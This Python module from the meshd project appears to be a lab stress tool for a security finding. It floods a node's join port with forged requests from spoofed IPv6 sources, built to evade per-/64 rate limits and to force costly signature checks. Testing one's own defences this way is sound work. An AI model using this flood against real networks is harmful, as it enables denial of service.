"""A flooding stranger for labs (issue #22, finding 4): `python -m meshd.joinflood --target ADDR
--cert NODE_CERT --rate 20000 --seconds 30`.

Not meshd, and not a member: a host on the underlay that sends join requests to one node's meshd
port as fast as asked, each from another source address, so that no per-source limit holds it:
source `i` is `fd0f:100d:<i>::1`, a /64 of its own (meshd groups IPv6 sources by /64), taken
round-robin from `--sources` of them (more than the 4,096 buckets meshd keeps). The source is
set per datagram with IPV6_PKTINFO on a socket with IPV6_FREEBIND (Linux >= 4.15 accepts a
non-local source then): one socket, no addresses to add. Nothing answers a spoofed source, and
the flood does not wait for answers.

Two kinds of request, alternating 3:1, both worth the most to an attacker:
* a real certificate of the mesh (certificates are public: `--cert`, any member's) in an
  announcement with a garbage signature and a version that changes with every datagram, so it
  passes every cheap check, is never in a cache, and would cost two signature checks;
* a certificate of a CA the mesh does not trust (made here), refused at the CA check.

The rate is held in 10 ms slices; when the sender cannot keep up it sends flat out and the
report says so. It prints one JSON line when done: datagrams sent, seconds, achieved rate,
send errors.
"""

from __future__ import annotations

import argparse
import errno
import ipaddress
import json
import os
import socket
import struct
import sys
import time
from pathlib import Path

from meshd import keyfiles
from meshd.core import encoding as enc
from meshd.core import wire
from meshd.core.announce import ANNOUNCEMENT_FORMAT
from meshd.core.cert import Certificate, decode_certificate, issue_certificate
from meshd.core.identity import SigningKey

IPV6_FREEBIND = getattr(socket, "IPV6_FREEBIND", 78)
SOURCE_BASE = ipaddress.IPv6Address("fd0f:100d::1")
VERSION_BASE = 2**62
"""Versions in the forged announcements: a fixed-width msgpack uint64 (0xcf + 8 bytes) that the
sender rewrites in place for every datagram."""
SLICE_S = 0.01


def _request(cert: Certificate, version: int, port: int) -> bytes:
    """A join request whose announcement carries `cert` and a garbage signature."""
    body = enc.pack(
        (ANNOUNCEMENT_FORMAT, cert.raw, version, os.urandom(32), None, 0, (), (), 0, port,
         int(time.time() * 1000), ())
    )  # fmt: skip
    ann = enc.pack((body, os.urandom(64)))
    return wire.encode(wire.JoinRequest(os.urandom(8), ann, 0, wire.MemberState.UNKNOWN))


def rogue_certificate(mesh: str) -> Certificate:
    """A certificate for `mesh` from a CA made here (not the mesh's)."""
    now = int(time.time())
    return issue_certificate(
        SigningKey(os.urandom(32)), mesh=mesh, serial=1, name="stranger",
        identity_key=SigningKey(os.urandom(32)).public, addresses=["fd00:bad::1"],
        not_before=now - 300, not_after=now + 86400,
    )  # fmt: skip


class Template:
    """One join request and where its version sits, to rewrite per datagram."""

    def __init__(self, cert: Certificate, port: int) -> None:
        self.data = bytearray(_request(cert, VERSION_BASE, port))
        marker = b"\xcf" + VERSION_BASE.to_bytes(8, "big")
        self.offset = self.data.index(marker) + 1

    def next(self, counter: int) -> bytearray:
        struct.pack_into(">Q", self.data, self.offset, VERSION_BASE + counter)
        return self.data


def source_info(i: int) -> bytes:
    """IPV6_PKTINFO (struct in6_pktinfo: address, ifindex 0) for source number `i`."""
    address = SOURCE_BASE + (i << 80)
    return address.packed + struct.pack("=I", 0)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="meshd.joinflood")
    p.add_argument("--target", required=True, help="the flooded node's underlay IPv6 address")
    p.add_argument("--port", type=int, default=7946, help="its meshd port")
    p.add_argument("--cert", type=Path, required=True, help="any member's node.cert (public)")
    p.add_argument("--rate", type=float, default=20_000.0, help="datagrams per second")
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--sources", type=int, default=16_384, help="distinct /64 sources")
    args = p.parse_args(argv)

    cert = decode_certificate(keyfiles.read_armored(args.cert, keyfiles.CERT_LABEL))
    kinds = [Template(cert, args.port)] * 3 + [Template(rogue_certificate(cert.mesh), args.port)]
    sources = [[(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, source_info(i))]
               for i in range(args.sources)]  # fmt: skip
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
    destination = (args.target, args.port)
    per_slice = max(1, round(args.rate * SLICE_S))
    sent = errors = 0
    start = time.monotonic()
    end = start + args.seconds
    deadline = start
    sendmsg = sock.sendmsg
    n_sources, n_kinds = len(sources), len(kinds)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if deadline > now:
            time.sleep(deadline - now)
        deadline += SLICE_S
        for _ in range(per_slice):
            data = kinds[sent % n_kinds].next(sent)
            try:
                sendmsg((data,), sources[sent % n_sources], 0, destination)
            except OSError as exc:
                if exc.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                errors += 1
            sent += 1
    took = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(took, 3),
                      "rate_per_s": round(sent / took), "send_errors": errors}))  # fmt: skip
    return 0


if __name__ == "__main__":
    sys.exit(main())
